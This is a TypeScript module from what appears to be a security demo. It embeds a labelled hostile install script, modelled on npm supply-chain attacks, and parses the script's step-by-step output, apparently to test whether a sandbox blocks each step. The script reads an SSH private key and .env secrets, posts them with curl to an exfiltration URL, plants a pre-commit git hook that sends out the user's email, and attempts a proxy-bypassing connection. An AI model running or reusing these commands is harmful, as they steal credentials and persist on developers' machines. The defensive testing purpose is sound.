/**
 * The demo's hostile install script, modelled on real npm supply-chain attacks: it steals an SSH
 * key and the project's secrets, sends them out, persists through a git hook and tries a direct
 * connection. It prints one machine-readable line per step: `STEP n ok|fail detail`.
 * $EXFIL and $DIRECT are URLs on the demo's local server; $REGISTRY the allowed download.
 */
export const HOSTILE_SCRIPT = String.raw`
step() { printf 'STEP %s %s %s\n' "$1" "$2" "$(printf %s "$3" | tr '\n' ' ')"; }
if key=$(cat "$HOME/.ssh/id_ed25519" 2>&1); then step 1 ok "$(printf %s "$key" | wc -c)"; else step 1 fail "$key"; key=""; fi
if secrets=$(cat .env 2>&1); then step 2 ok "$(printf %s "$secrets" | wc -c)"; else step 2 fail "$secrets"; secrets=""; fi
code=$(printf '%s\n%s\n' "$key" "$secrets" | curl -sS --max-time 10 --resolve "$EXFIL_RESOLVE" --data-binary @- -o /dev/null -w '%{http_code}' "$EXFIL" 2>&1)
if [ "$code" = 200 ]; then step 3 ok "$code"; else step 3 fail "$code"; fi
if err=$( { printf '#!/bin/sh\ncurl -s "%s" -d "$(git config user.email)"\n' "$EXFIL" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; } 2>&1); then step 4 ok ""; else step 4 fail "$err"; fi
if out=$(curl -sS --noproxy '*' --max-time 10 "$DIRECT" 2>&1); then step 5 ok "$out"; else step 5 fail "$out"; fi
if out=$(curl -sS --max-time 10 --resolve "$REGISTRY_RESOLVE" -o /dev/null -w '%{http_code}' "$REGISTRY" 2>&1) && [ "$out" = 200 ]; then step 6 ok "$out"; else step 6 fail "$out"; fi
`;

export interface StepResult {
  ok: boolean;
  detail: string;
}

/** The STEP lines of one run, by step number. */
export function parseSteps(output: string): Map<number, StepResult> {
  const out = new Map<number, StepResult>();
  for (const line of output.split("\n")) {
    const m = /^STEP (\d+) (ok|fail) ?(.*)$/.exec(line);
    if (m) out.set(Number(m[1]), { ok: m[2] === "ok", detail: m[3]!.trim() });
  }
  return out;
}
